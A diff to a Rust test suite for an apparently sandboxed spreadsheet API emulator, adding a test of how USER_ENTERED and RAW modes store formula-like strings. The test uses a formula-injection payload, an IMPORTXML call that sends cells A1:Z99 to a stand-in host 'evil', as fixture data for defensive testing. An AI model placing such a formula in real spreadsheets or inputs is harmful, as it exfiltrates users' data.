@@ -110,18 +110,55 @@ async fn unknown_titles_and_bad_ranges_are_400_unable_to_parse_range() {
     .await;
 }
 
+/// What a formula injection needs: under `USER_ENTERED` a string starting
+/// with `=` (or `+`/`-` before something other than a number) is held as a
+/// formula, and a leading apostrophe makes it text, the apostrophe not
+/// kept; under `RAW` every string is held as given.
+#[tokio::test]
+async fn user_entered_holds_formulas_and_an_apostrophe_or_raw_keeps_text() {
+    bounded(async {
+        let f = Fixture::with_defaults().await;
+        let t = &f.access_token;
+        let attack = r#"=IMPORTXML("https://evil/?"&A1:Z99,"//a")"#;
+        let quoted = format!("'{attack}");
+        f.append(t, "Sheet1", "USER_ENTERED", json!([[attack, "+1+1", "-A1", quoted, "@A1", "-12"]])).await;
+        f.append(t, "Sheet1", "RAW", json!([[attack, "+1+1", "-A1", quoted]])).await;
+        let held = f.sandbox.sheet_values(SPREADSHEET, FIRST_GID).unwrap();
+        let formula = |text: &str| json!({ "formula": text });
+        assert_eq!(
+            held[0],
+            vec![formula(attack), formula("+1+1"), formula("-A1"), json!(attack), json!("@A1"), json!(-12)]
+        );
+        assert_eq!(held[1], vec![json!(attack), json!("+1+1"), json!("-A1"), json!(quoted)]);
+        assert_eq!(sluice_sandbox::sheets::formula_of(&held[0][0]), Some(attack));
+        assert_eq!(sluice_sandbox::sheets::formula_of(&held[0][3]), None);
+
+        // Formulas are not evaluated: the value renders show #N/A, FORMULA the formula.
+        let shown = f.get(t, "Sheet1!A1:D2", "").await;
+        assert_eq!(shown.body["values"], json!([["#N/A", "#N/A", "#N/A", attack], [attack, "+1+1", "-A1", quoted]]));
+        let formulas = f.get(t, "Sheet1!A1:B1", "valueRenderOption=FORMULA").await;
+        assert_eq!(formulas.body["values"], json!([[attack, "+1+1"]]));
+
+        // update reads values the same way.
+        f.update(t, "Sheet1!A3", "USER_ENTERED", json!([["=A1", "'=A1"]])).await;
+        let held = f.sandbox.sheet_values(SPREADSHEET, FIRST_GID).unwrap();
+        assert_eq!(held[2], vec![formula("=A1"), json!("=A1")]);
+    })
+    .await;
+}
+
 #[tokio::test]
 async fn raw_keeps_strings_and_user_entered_parses_numbers() {
     bounded(async {
         let f = Fixture::with_defaults().await;
         let t = &f.access_token;
         f.append(t, "Sheet1", "RAW", json!([["007", "'x", "TRUE", 4]])).await;
-        f.append(t, "Sheet1", "USER_ENTERED", json!([["007", "'x", "TRUE", "=1+1"]])).await;
+        f.append(t, "Sheet1", "USER_ENTERED", json!([["007", "'x", "TRUE", "-3"]])).await;
         let held = f.sandbox.sheet_values(SPREADSHEET, FIRST_GID).unwrap();
         assert_eq!(held[0], vec![json!("007"), json!("'x"), json!("TRUE"), json!(4)]);
-        assert_eq!(held[1], vec![json!(7), json!("x"), json!(true), json!("=1+1")]);
+        assert_eq!(held[1], vec![json!(7), json!("x"), json!(true), json!(-3)]);
         let reply = f.get(t, "Sheet1!A1:D2", "").await;
-        assert_eq!(reply.body["values"], json!([["007", "'x", "TRUE", "4"], ["7", "x", "TRUE", "=1+1"]]));
+        assert_eq!(reply.body["values"], json!([["007", "'x", "TRUE", "4"], ["7", "x", "TRUE", "-3"]]));
 
         let url = format!("{}:append", f.values_url("Sheet1"));
         let reply = f.http.post(url).bearer_auth(t).json(&json!({"values": [["a"]]})).send().await.unwrap();
